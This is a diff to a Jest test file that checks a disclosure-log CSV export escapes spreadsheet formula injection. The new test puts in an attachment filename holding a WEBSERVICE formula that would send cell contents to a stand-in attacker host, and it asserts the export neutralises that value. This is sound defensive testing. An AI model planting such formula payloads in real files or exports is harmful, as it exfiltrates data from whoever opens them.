@@ -2,6 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { dynamoReadModels } from '../../adapters/dynamodb/read-models.js';
 import { loadDisclosureLogPage } from '../../application/reports.js';
 import type { LocalStack } from '../../local/stack.js';
+import { parse } from 'csv-parse/sync';
 import { as } from '../support/agency.js';
 import { caller, startTestStack } from '../support/stack.js';
 
@@ -18,7 +19,7 @@ afterAll(async () => stack.stop());
 const at = (month: number, day: number, hour = 10) => `2027-${String(month).padStart(2, '0')}-${String(day).padStart(2, '0')}T${String(hour).padStart(2, '0')}:00:00+06:00`;
 
 /** A request received, assigned, cleared by its division's spokesperson and answered at `sentAt`. */
-const answered = async (division: 'legal' | 'ppd', receivedAt: string, sentAt: string): Promise<string> => {
+const answered = async (division: 'legal' | 'ppd', receivedAt: string, sentAt: string, attachments: readonly Record<string, unknown>[] = []): Promise<string> => {
   const out = await stack.core.commands.receive(
     { channel: 'email', requester: { name: 'R', email: 'r@example.bt', kind: 'public' }, subject: `Data for ${division}`, body: { inline: 'x' }, attachments: [], receivedAt },
     { now: receivedAt, actor: as('ict.officer') },
@@ -31,7 +32,7 @@ const answered = async (division: 'legal' | 'ppd', receivedAt: string, sentAt: s
   };
   await run('AssignRequest', { division }, 'ict.officer', receivedAt);
   await run('RecordConsultation', { with: 'spokesperson', person: `spokesperson.${division}`, outcome: 'cleared' }, `spokesperson.${division}`, receivedAt);
-  await run('SendResponse', { responseId: 'r1', body: { inline: 'here' }, disposition: 'full', attachments: [] }, `${division}.officer`, sentAt);
+  await run('SendResponse', { responseId: 'r1', body: { inline: 'here' }, disposition: 'full', attachments }, `${division}.officer`, sentAt);
   return id;
 };
 
@@ -85,5 +86,21 @@ describe('the disclosure log without a period', () => {
     expect([half.status, paged.status, forged.status]).toEqual([400, 400, 400]);
     expect((await api('GET', '/disclosures', { as: 'auditor' })).status).toBe(200);
     expect((await api('GET', '/disclosures', { as: 'secretary' })).status).toBe(200);
+  });
+});
+
+describe('the disclosure log as CSV, opened in a spreadsheet', () => {
+  it('carries a file named like a formula as text, never as a live formula', async () => {
+    // Prepare: a response whose attachment a requester named to run in Excel
+    const filename = '=WEBSERVICE("https:evil.example?"&A1).pdf';
+    const id = await answered('legal', at(3, 10), at(3, 11), [{ filename, contentType: 'application/pdf', sizeBytes: 3, sha256: 'a'.repeat(64), storageKey: `attachments/${'a'.repeat(64)}` }]);
+    await stack.settle();
+    // Act
+    const csv = await (await fetch(`${stack.apiUrl}/disclosures?format=csv`, { headers: { authorization: 'Bearer local:auditor' } })).text();
+    // Assess
+    const rows = parse(csv, { columns: true }) as Record<string, string>[];
+    const row = rows.find((r) => r.request === id);
+    expect(row?.attachment).toBe(`'${filename}`);
+    expect(rows.every((r) => Object.values(r).every((cell) => !/^[=+\-@\t\r]/.test(cell)))).toBe(true);
   });
 });
